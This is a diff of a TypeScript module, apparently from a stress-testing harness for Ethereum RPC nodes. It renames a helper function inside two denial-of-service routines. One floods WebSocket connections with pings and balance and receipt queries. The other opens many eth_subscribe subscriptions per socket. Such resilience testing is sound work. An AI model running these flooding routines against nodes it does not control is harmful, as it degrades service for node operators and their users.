@@ -2,7 +2,7 @@ import { once } from "node:events";
 import { setTimeout as delay } from "node:timers/promises";
 import { WebSocket } from "ws";
 import { formatAttackerAddress, type Attack, type Target } from "./attack.ts";
-import { asMany, callOf, countReached } from "./attacker.ts";
+import { asMany, buildCall, countReached } from "./attacker.ts";
 
 const hash = (at: number) => `"0x${at.toString(16).padStart(64, "0")}"`;
 
@@ -35,8 +35,8 @@ export const webSocketFlood: Attack = {
           sent += 1;
           if (connection % 4 === 3) socket.ping();
           else if (connection % 4 === 1)
-            socket.send(callOf(sent, "eth_getBalance", `[${hash(sent).slice(0, 43)}","latest"]`));
-          else socket.send(callOf(sent, "eth_getBlockReceipts", `["0x${sent.toString(16)}"]`));
+            socket.send(buildCall(sent, "eth_getBalance", `[${hash(sent).slice(0, 43)}","latest"]`));
+          else socket.send(buildCall(sent, "eth_getBlockReceipts", `["0x${sent.toString(16)}"]`));
         }
         await delay(100, undefined, { signal });
       }
@@ -59,7 +59,7 @@ export const subscriptionFlood: Attack = {
       for (let subscription = 0; subscription < 64 && socket.readyState === WebSocket.OPEN; subscription += 1) {
         sent += 1;
         const filter = subscription % 8 === 0 ? '["newHeads"]' : `["logs",{"topics":[${hash(sent)}]}]`;
-        socket.send(callOf(sent, "eth_subscribe", filter));
+        socket.send(buildCall(sent, "eth_subscribe", filter));
       }
       await once(socket, "close", { signal: AbortSignal.any([signal, AbortSignal.timeout(15_000)]) });
       socket.terminate();
